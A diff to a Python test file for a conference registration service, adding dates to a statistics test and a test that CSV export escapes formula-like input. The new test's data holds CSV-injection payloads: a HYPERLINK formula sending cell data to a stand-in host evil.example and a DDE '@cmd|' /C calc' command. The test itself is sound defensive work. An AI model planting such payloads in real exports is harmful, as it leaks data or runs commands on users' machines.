@@ -52,7 +52,7 @@ async def test_statistics_count_by_status_category_region_gender_age_and_checkin
     infra: Infra, keys: Keys
 ) -> None:
     async with registration_service(infra, keys) as svc:
-        conference = await svc.conference(capacity=2)
+        conference = await svc.conference(capacity=2, starts_on="2026-03-01", ends_on="2026-03-01")
         cid = conference["id"]
         first = await svc.register(cid, gender="male", age_band="under_25", region="oriental")
         await svc.register(cid, gender=None, age_band=None, organization_type="media")
@@ -156,3 +156,20 @@ async def test_conference_days_and_windows_outside_the_calendar_are_refused(infr
         stored = (await svc.client.get(f"/conferences/{conference['id']}")).json()
         assert stored["ends_on"] == conference["ends_on"]
         assert stored["registration_opens_at"] == conference["registration_opens_at"]
+
+
+async def test_csv_export_writes_formula_like_input_as_text(infra: Infra, keys: Keys) -> None:
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Cliquez")'
+    async with registration_service(infra, keys) as svc:
+        conference = await svc.conference()
+        await svc.register(conference["id"], full_name=hyperlink, organization_name="+SUM(1;2)",
+                           accessibility_needs="@cmd|' /C calc'!A0")
+        await svc.register(conference["id"], full_name="-2+3", accessibility_needs="\t=1+1")
+        await svc.register(conference["id"], full_name="Hélène = Dupré", accessibility_needs="\rCR")
+        response = await svc.client.get(f"/admin/conferences/{conference['id']}/registrations.csv",
+                                        headers=svc.organizer)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    texts = [(r["full_name"], r["organization_name"], r["accessibility_needs"]) for r in rows]
+    assert texts == [("'" + hyperlink, "'+SUM(1;2)", "'@cmd|' /C calc'!A0"),
+                     ("'-2+3", "Coopérative Argane", "'\t=1+1"), ("Hélène = Dupré", "Coopérative Argane", "'\rCR")]
+    assert [r["number"] for r in rows] == ["1", "2", "3"]
